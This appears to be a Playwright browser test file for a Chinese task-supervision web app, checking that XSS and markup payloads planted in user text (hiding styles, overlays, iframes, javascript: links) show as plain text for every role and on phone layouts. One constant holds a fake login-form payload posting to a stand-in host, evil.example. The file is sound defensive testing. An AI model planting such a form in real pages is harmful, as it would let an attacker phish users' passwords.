"""No user text becomes markup, on any page, for any role (issue 11 #1, #6).

Markup payloads (a <style> that hides the page, a full-screen overlay, a fake password form
posting to another host, an iframe, links, images, Markdown images and links, a
javascript: link, entities, bare URLs) are planted in every user text field through the
services (tests/user_text_payloads.py). Each role logs in through the real form and opens
every page it is shown, with the planted task, inspection, notice and appeal open; the
rendered DOM must hold none of the payloads' elements, no request may leave for the
payloads' host, and the payload shows as the text that was typed.
"""

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from playwright.sync_api import expect
from sqlmodel import Session

from duban.core import clock
from duban.core.db import make_engine
from duban.core.settings import get_settings
from tests import user_text_payloads as payloads
from tests.browser_support import (
    ROOT,
    _free_port,
    _start_server,
    login,
    require_chromium,
    wait_idle,
)

pytestmark = pytest.mark.browser

TYPED = '<form action="http://evil.example/x">'  # the payload, shown as text


@pytest.fixture(scope="module")
def planted_app(demo_db_template, tmp_path_factory) -> Iterator[tuple[str, payloads.Planted]]:
    """The real app on a demo database holding the payloads (one server for the module)."""
    require_chromium()
    work = tmp_path_factory.mktemp("payloads")
    db = work / "duban.db"
    shutil.copy(demo_db_template, db)
    env = {
        **os.environ,
        "DATABASE_URL": f"sqlite:///{db}",
        "UPLOAD_DIR": str(work / "uploads"),
        "DUBAN_MODE": "demo",
        "BCRYPT_ROUNDS": "4",
    }
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("UPLOAD_DIR", env["UPLOAD_DIR"])
        get_settings.cache_clear()
        engine = make_engine(env["DATABASE_URL"])
        with Session(engine, expire_on_commit=False) as s:
            planted = payloads.plant(s)
        engine.dispose()
    get_settings.cache_clear()
    port = _free_port()
    url = f"http://127.0.0.1:{port}"
    cmd = [sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py")]
    cmd += ["--server.port", str(port), "--server.headless", "true"]
    cmd += ["--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false"]
    proc = _start_server(cmd, env, work / "streamlit.log", url)
    yield url, planted
    proc.terminate()
    try:
        proc.wait(10)
    except subprocess.TimeoutExpired:
        proc.kill()


# ---------------------------------------------------------------- what a page must not hold


def _violations(page, where: str) -> list[str]:
    found = page.evaluate(
        """(forbidden) => {
            const out = [];
            for (const [why, selector] of Object.entries(forbidden)) {
                for (const el of document.querySelectorAll(selector)) {
                    out.push(why + ': ' + el.outerHTML.slice(0, 160));
                }
            }
            for (const s of document.querySelectorAll('style')) {
                if (s.textContent.includes('body{display:none}')) out.push('the payload <style>');
            }
            return out;
        }""",
        payloads.FORBIDDEN,
    )
    return [f"{where}: {v}" for v in found]


class Visit:
    """One role's tour: every page checked, every finding kept, one assertion at the end."""

    def __init__(self, page, base: str, planted: payloads.Planted):
        self.page, self.base, self.planted = page, base, planted
        self.problems: list[str] = []
        self.requests: list[str] = []
        page.on("request", self._request)

    def _request(self, request) -> None:
        url = request.url
        if "evil" in url or url.rstrip("/").endswith(("/x", "/f")):
            self.requests.append(url)

    def open(self, title: str) -> None:
        self.page.locator('[data-testid="stSidebarNav"] a', has_text=title).first.click()
        self.page.wait_for_selector(f'h1:has-text("{title}")')
        wait_idle(self.page)

    def pick(self, label: str, typed: str, *, key: str | None = None) -> None:
        """Choose the option containing `typed` in the selectbox labelled `label` (or the
        one with widget key `key`)."""
        scope = (
            f'.st-key-{key} [data-testid="stSelectbox"]' if key else '[data-testid="stSelectbox"]'
        )
        box = self.page.locator(scope, has_text=label).first
        box.click()
        self.page.keyboard.type(typed)
        option = self.page.get_by_role("option").filter(has_text=typed).first
        option.wait_for()
        self.problems += _violations(self.page, f"the options of {label}")  # the list is open
        option.click()
        wait_idle(self.page)

    def tab(self, label: str) -> None:
        self.page.get_by_role("tab", name=label).first.click()
        wait_idle(self.page)

    def check_fields(self, where: str) -> None:
        """The payload sits, as typed, in a form's text field (an editor of the record)."""
        self.check(where)
        values = self.page.evaluate(
            "() => [...document.querySelectorAll('input, textarea')].map(e => e.value)"
        )
        if not any(TYPED in v for v in values):
            self.problems.append(f"{where}: the payload is not in the form's fields as typed")

    def check(self, where: str, *, shows_text: bool = False) -> None:
        if shows_text:
            # Wait for the payload's text (the run a choice started may still be drawing);
            # a word joiner, invisible, keeps a URL in user text from becoming a link.
            try:
                self.page.wait_for_function(
                    "(t) => document.body.innerText.replaceAll('\u2060', '').includes(t)",
                    arg=TYPED,
                    timeout=20_000,
                )
            except PlaywrightTimeout:
                self.problems.append(f"{where}: the payload is not shown as the text typed")
        self.problems += _violations(self.page, where)

    def done(self) -> None:
        report = self.problems + [f"request to {url}" for url in dict.fromkeys(self.requests)]
        assert report == [], "\n".join(report)


def _starter(page, planted_app):
    """start(username): log in on `page` and begin that role's tour."""

    def start(username: str) -> Visit:
        base, planted = planted_app
        v = Visit(page, base, planted)
        login(page, base, username)
        return v

    return start


@pytest.fixture
def visit(planted_app, browser_page):
    return _starter(browser_page, planted_app)


def _task_detail(v: Visit, where: str) -> None:
    v.pick("查看任务", "XSS标题")
    expect(v.page.get_by_role("heading", name="XSS标题", exact=False).first).to_be_visible()
    v.check(where, shows_text=True)


def _common_pages(v: Visit) -> None:
    v.open("领导驾驶舱")
    v.check("领导驾驶舱")
    v.open("任务台账")
    _task_detail(v, "任务台账·任务详情")
    v.open("考核排名")
    v.check("考核排名")
    v.open("个人设置")
    v.check("个人设置")


def test_office_sees_every_payload_as_text(visit):
    v = visit("office")
    v.open("任务台账")
    _task_detail(v, "任务台账·任务详情")
    v.page.get_by_role("button", name="← 返回台账").click()  # the task opened on its own
    wait_idle(v.page)
    for tab in ("新建任务", "批量调整", "延期审批"):
        v.tab(tab)
        v.check(f"任务台账·{tab}", shows_text=tab == "延期审批")
    v.open("领导驾驶舱")
    v.check("领导驾驶舱")
    v.open("我的任务")
    v.pick("查看单位", "市政务服务和大数据管理局")
    v.pick("办理任务", "XSS标题")
    v.check("我的任务（办公室代办）", shows_text=True)
    _inspections(v)
    _notices_office(v)
    v.open("考核排名")
    v.pick("考核期", "季度", key="asm_period")  # the planted quarter (the demo assesses months)
    for tab in ("排名", "单位明细", "申诉", "评分规则"):
        v.tab(tab)
        v.check(f"考核排名·{tab}", shows_text=tab == "申诉")
    v.open("方案导入")
    v.check("方案导入")
    v.open("系统管理")
    v.page.get_by_text("编辑单位").click()
    wait_idle(v.page)
    v.pick("选择要编辑的单位", "XSS单位")
    v.check("系统管理·单位")
    v.tab("通知模板与规则")
    v.pick("类型", "催办通知", key="tpl_kind")
    v.check("系统管理·通知模板", shows_text=True)
    v.open("个人设置")
    v.check("个人设置")
    v.done()


def _inspections(v: Visit) -> None:
    v.open("督查检查")
    v.pick("打开", clock.today().isoformat(), key="insp_pick")  # the planted record, today
    v.check("督查检查·督查记录", shows_text=True)
    v.tab("整改跟踪")
    v.pick("选择整改事项", "XSS长文")
    v.check("督查检查·整改跟踪", shows_text=True)


def _notices_office(v: Visit) -> None:
    v.open("通知通报")
    v.tab("草稿")
    v.pick("打开", "XSS标题")
    v.check_fields("通知通报·草稿")
    v.tab("已签发")
    v.pick("打开", "XSS标题", key="nt_issued_pick")
    v.check("通知通报·已签发", shows_text=True)


def test_leader_sees_every_payload_as_text(visit):
    v = visit("leader")
    _common_pages(v)
    v.open("通知通报")
    v.pick("打开", "XSS标题", key="nt_issued_pick")
    v.check("通知通报", shows_text=True)
    v.done()


def test_inspector_sees_every_payload_as_text(visit):
    v = visit("inspector")
    _common_pages(v)
    _inspections(v)
    _notices_office(v)  # an inspector drafts and issues notices too
    v.done()


def test_department_head_sees_every_payload_as_text(visit):
    v = visit("dept01")
    v.open("我的任务")
    v.check("我的任务", shows_text=False)
    v.pick("办理任务", "XSS标题")
    v.check("我的任务·任务详情", shows_text=True)
    for tab in ("申请延期", "回复批示"):
        v.tab(tab)
        v.check(f"我的任务·{tab}")
    v.open("通知通报")
    v.check("通知通报·本单位通知", shows_text=True)
    v.tab("整改事项")
    v.pick("选择整改事项", "XSS长文", key="my_f_pick")
    v.check("通知通报·整改事项", shows_text=True)
    v.open("考核排名")
    v.check("考核排名（本单位）")
    v.open("个人设置")
    v.check("个人设置")
    v.done()


def test_own_name_and_unit_in_the_sidebar_are_text(visit):
    """dept02's display name and unit name are payloads: the sidebar draws both (app.py)."""
    v = visit("dept02")
    v.open("我的任务")
    expect(v.page.get_by_test_id("stSidebar").get_by_text("XSS单位", exact=False)).to_be_visible()
    v.check("侧栏·本人与本单位")
    v.open("个人设置")
    v.check("个人设置（本人）")
    v.done()


# ---------------------------------------------------------------- 简洁视图 (issue 17)
PHONE_UA = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)


@pytest.fixture
def phone_visit(planted_app, _chromium):
    """A tour on a phone: 390 × 844 and a phone's User-Agent, so 简洁视图 lays pages out."""
    ctx = _chromium.new_context(
        viewport={"width": 390, "height": 844}, user_agent=PHONE_UA, is_mobile=True
    )
    page = ctx.new_page()
    page.set_default_timeout(30_000)
    yield _starter(page, planted_app)
    ctx.close()


def _phone_go(v: Visit, path: str) -> None:
    v.page.goto(f"{v.base}/{path}")
    wait_idle(v.page)


def test_the_phone_layout_shows_every_payload_as_text(phone_visit):
    """The red cards, the folded filter line naming a unit and the compact task detail draw
    user text as text (the unit's desk and detail: the next test)."""
    v = phone_visit("leader")
    task_id = v.planted.task_id
    _phone_go(v, "dashboard?missed=1")  # every task with a missed report, as cards
    expect(v.page.locator('[class*="st-key-dash_card_"]').first).to_be_visible()
    v.check("简洁视图·驾驶舱")
    _phone_go(v, f"dashboard?dept={v.planted.renamed_unit_id}")  # the line names the unit
    expect(v.page.locator(".st-key-dash_filters_box")).to_contain_text("XSS单位")
    v.check("简洁视图·驾驶舱筛选")
    _phone_go(v, f"tasks?task={task_id}")
    v.check("简洁视图·任务详情", shows_text=True)
    v.done()


def test_the_unit_phone_layout_shows_every_payload_as_text(phone_visit):
    u = phone_visit("dept01")
    task_id = u.planted.task_id
    _phone_go(u, "my_tasks")
    u.check("简洁视图·我的任务")
    _phone_go(u, f"my_tasks?task={task_id}")
    u.check("简洁视图·我的任务·任务详情", shows_text=True)
    u.done()
